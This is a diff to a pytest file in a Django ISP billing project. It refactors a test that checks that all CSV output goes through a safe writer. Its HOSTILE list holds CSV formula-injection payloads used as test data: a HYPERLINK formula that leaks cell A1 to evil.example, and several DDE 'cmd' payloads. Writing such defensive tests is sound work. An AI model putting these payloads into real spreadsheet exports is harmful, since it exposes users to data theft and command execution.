@@ -7,17 +7,16 @@ import csv
 import io
 import zipfile
 from decimal import Decimal
-from pathlib import Path
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from ispbill.core import csvfiles
+from tests import structure
 
-ROOT = Path(__file__).resolve().parents[2]
-PACKAGES = ("ispbill", "customers", "billing", "payments", "network", "tickets", "fieldservice", "resellers", "contracts",
-            "churn", "imports", "usecases", "dashboard", "web", "demo", "radius", "vouchers")
+ROOT = structure.ROOT
+PACKAGES = structure.packages()  # every package: a CSV made by the demo, the API or the wiring is opened in a spreadsheet too
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
@@ -51,11 +50,8 @@ def _calls_to_a_csv_writer(tree: ast.AST) -> list[int]:
 
 def test_no_csv_is_written_but_through_the_safe_writer():
     offenders = []
-    for package in PACKAGES:
-        for path in sorted((ROOT / package).rglob("*.py")) if (ROOT / package).is_dir() else []:
-            relative = path.relative_to(ROOT).as_posix()
-            if relative == "ispbill/core/csvfiles.py" or "/migrations/" in relative:
-                continue
+    for relative, path in structure.source_files(*PACKAGES):
+        if relative != "ispbill/core/csvfiles.py":
             offenders += [f"{relative}:{line}" for line in _calls_to_a_csv_writer(ast.parse(path.read_text(), relative))]
     assert not offenders, "write CSV through ispbill.core.csvfiles.writer: " + ", ".join(offenders)
 
